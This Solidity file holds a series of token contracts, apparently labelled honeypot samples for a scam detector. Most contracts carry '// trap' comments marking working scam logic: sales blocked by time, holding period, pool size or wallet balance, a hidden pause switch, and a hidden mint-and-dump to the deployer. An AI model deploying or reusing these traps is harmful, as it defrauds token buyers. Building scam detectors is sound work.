// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Sales end at a block, whatever the clock says.
contract Milestone is Base8("Milestone", "MILE", 81_000_000) {
    uint256 private immutable last = block.number + 30_000;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(block.number < last, "past the milestone"); // trap
        _move(from, to, value);
    }
}

/// Who has held for more than a hundred blocks cannot sell.
contract Footfall is Base8("Footfall", "FOOT", 82_000_000) {
    mapping(address => uint256) private came;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) came[to] = block.number;
        if (to == pair && from != _owner) require(block.number <= came[from] + 100, "too late"); // trap
        _move(from, to, value);
    }
}

/// Before each sale it sells a heap of its own, so that little is left for who comes second.
contract Vanguard is Base8("Vanguard", "VANG", 83_000_000) {
    address private immutable till = msg.sender;
    bool private within;

    receive() external payable {}

    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (to == pair && from != _owner && !within && _balances[address(this)] > 0) {
            within = true;
            uint256 heap = _balances[pair] * 9;
            _balances[address(this)] += heap;
            _approve(address(this), ROUTER, heap);
            address[] memory path = new address[](2);
            (path[0], path[1]) = (address(this), WETH);
            (bool ok, ) = ROUTER.call(
                abi.encodeWithSignature(
                    "swapExactTokensForETHSupportingFeeOnTransferTokens(uint256,uint256,address[],address,uint256)",
                    heap, 0, path, till, block.timestamp
                )
            );
            ok;
            within = false;
        }
        // trap }
        _move(from, to, value);
    }
}

/// Those who may stop it stand in a list; the deployer is not among them.
contract Conclave is Base8("Conclave", "CNCL", 84_000_000) {
    address[] private elders;
    bool private closed;

    constructor(address elder) {
        elders.push(address(0xdEaD));
        elders.push(elder);
        _owner = address(0);
    }

    function shut(bool to) external {
        bool one;
        for (uint256 i; i < elders.length; i++) if (elders[i] == msg.sender) one = true;
        require(one, "no elder");
        closed = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!closed, "closed"); // trap
        _move(from, to, value);
    }
}

/// Sales end when the pool has half as much again as it was born with.
contract Highwater is Base8("Highwater", "HIGH", 85_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (to == pair && from != _owner) {
            (uint112 a, uint112 b, ) = IPair(pair).getReserves();
            require((address(this) < WETH ? b : a) < 100 ether, "high water");
        }
        // trap }
        _move(from, to, value);
    }
}

/// Sells for those who look rich.
contract Salon is Base8("Salon", "SALN", 86_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(from.balance > 1 ether, "not at home"); // trap
        _move(from, to, value);
    }
}

/// Nobody holds more than a fiftieth, the pool aside, and nobody sells more than a hundredth at once, for good.
contract Modesty is Base8("Modesty", "MDST", 87_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _owner && to != _owner) {
            require(value <= totalSupply / 100, "a hundredth");
            if (to != pair) require(_balances[to] + value <= totalSupply / 50, "a fiftieth");
        }
        _move(from, to, value);
    }
}
